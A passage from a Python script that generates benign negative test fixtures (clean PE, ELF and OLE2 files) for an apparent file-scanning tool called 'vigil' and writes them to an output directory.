    f["clean-pe.neg"] = build_pe([text_section(), rdata_section(["Hello from vigil"])],
                                 imports={"KERNEL32.dll": ["GetStdHandle", "WriteFile",
                                                           "ExitProcess"]})
    f["clean-elf.neg"] = build_elf(b"\0" * 64 + b"hello world\0")
    f["clean-ole2.neg"] = build_ole2(extra_streams={"WordDocument": b"\xec\xa5\xc1\x00" + b"\0" * 60})
    return f


def main(argv):
    if len(argv) != 2:
        sys.stderr.write("usage: %s OUTDIR\n" % argv[0])
        return 2
    out = argv[1]
    os.makedirs(out, exist_ok=True)
    for name, data in sorted(fixtures().items()):
        with open(os.path.join(out, name), "wb") as fh:
            fh.write(data)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
